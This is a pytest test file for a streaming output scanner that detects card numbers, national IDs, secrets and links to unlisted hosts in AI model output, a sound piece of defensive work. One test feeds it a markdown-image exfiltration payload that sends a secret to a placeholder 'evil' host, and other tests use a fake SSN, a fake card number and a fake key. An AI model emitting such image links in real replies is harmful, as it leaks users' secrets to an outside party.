"""The scanner, played by hand; the law itself is tests/property/test_spanscan.py."""

from __future__ import annotations

import itertools

import pytest

from guardproxy.core.conversation import Scope, Segment, Stage
from guardproxy.core.findings import Span
from guardproxy.detectors import links, pii, secrets
from guardproxy.detectors.spanscan import SpanScanner

DETECTORS = [*pii.all_detectors(), *secrets.all_detectors(), *links.all_detectors(["docs.example"])]


def scanner(limit: int = 1000) -> SpanScanner:
    return SpanScanner(DETECTORS, limit)


def play(text: str, limit: int = 1000) -> tuple[list[tuple[str, Span]], str]:
    """One character at a time: the findings, and the text outside of them that was let go before the end."""
    reader = scanner(limit)
    found: list[tuple[str, Span]] = []
    safe = 0
    for char in text:
        scan = reader.feed(char)
        found += [(f.detector, f.span) for f in scan.findings]
        safe = scan.safe
    found += [(f.detector, f.span) for f in reader.flush().findings]
    return found, text[:safe]


def test_a_card_number_is_held_until_it_is_known():
    reader = scanner()
    assert reader.feed("pay 4242 4242 ").safe == 4
    assert reader.feed("4242 42").safe == 4
    scan = reader.feed("42, ok")
    assert [(f.detector, f.span) for f in scan.findings] == [("pii.card_number", Span(4, 23))]
    assert scan.safe >= 23


def test_digits_that_are_no_number_are_let_go():
    reader = scanner()
    reader.feed("in 1789 ")
    scan = reader.feed("and after")
    assert (scan.findings, scan.safe) == ((), 12)


def test_words_to_the_left_count_though_they_were_let_go():
    reader = scanner()
    assert reader.feed("His social security number is, as we know, ").safe > 30
    reader.feed("461-87-7148")
    (finding,) = reader.feed(".\n").findings
    assert (finding.detector, finding.span) == ("pii.national_id", Span(43, 54))
    assert finding.segment == Segment("461-87-7148", Stage.OUTPUT, Scope.MODEL, at=43)


def test_the_last_character_completes_a_match():
    reader = scanner()
    assert reader.feed("mail a@b.example").findings == ()
    scan = reader.flush()
    assert [f.span for f in scan.findings] == [Span(5, 16)]
    assert scan.safe == 16


def test_prose_is_held_for_a_word_at_most():
    text = "The quick brown fox jumps over the lazy dog. It was warm, and nobody minded. " * 5
    reader = scanner()
    held = [at + 1 - reader.feed(char).safe for at, char in enumerate(text)]
    assert max(held) <= 8


@pytest.mark.parametrize("cut", range(1, 27))
def test_no_link_is_let_go_before_its_host_is_known(cut):
    text = "![x](http://evil/?q=SECRET)"
    reader = scanner()
    first, second = reader.feed(text[:cut]), reader.feed(text[cut:])
    assert first.safe <= 5
    assert [f.span for f in (*first.findings, *second.findings)] == [Span(5, 26)]


def test_an_endless_value_counts_as_a_match_and_is_held_no_longer_than_the_limit():
    text = "token=" + "a" * 10_000 + " and on"
    reader = scanner(limit=1000)
    found, released = [], 0
    for at in range(0, len(text), 7):
        scan = reader.feed(text[at : at + 7])
        found += [f.span for f in scan.findings]
        assert min(at + 7, len(text)) - scan.safe <= 1007
        released = scan.safe
    assert found[0] == Span(0, 1000)
    assert found[-1].end == 10_006
    assert all(a.end == b.start for a, b in itertools.pairwise(found))
    assert released >= 10_007


def test_an_endless_key_counts_as_a_match():
    text = "-----BEGIN PRIVATE KEY-----\n" + ("A1" * 32 + "\n") * 100 + "Then, prose."
    found, released = play(text, limit=500)
    spans = [span for detector, span in found if detector == "secrets.private_key"]
    assert spans[0] == Span(0, 500)
    assert spans[-1].end >= 28 + 6500
    assert released.endswith("Then, ")


def test_a_long_link_to_a_listed_host_passes():
    text = "see https://docs.example/" + "a" * 3000 + " there"
    assert play(text, limit=200)[0] == []


def test_a_long_link_elsewhere_does_not():
    found, _ = play("see https://evil.example/" + "a" * 3000 + " there", limit=200)
    assert found[0] == ("links.foreign_host", Span(4, 204))
    assert found[-1][1].end == 25 + 3000


def test_lone_surrogates_and_empty_feeds_are_harmless():
    reader = scanner()
    assert reader.feed("").safe == 0
    reader.feed("a\ud800 b@c.example ")
    assert reader.flush().safe == 15


def test_a_detector_without_a_streaming_face_is_a_bug():
    with pytest.raises(AssertionError, match="streaming face"):
        SpanScanner([object()], 1000)
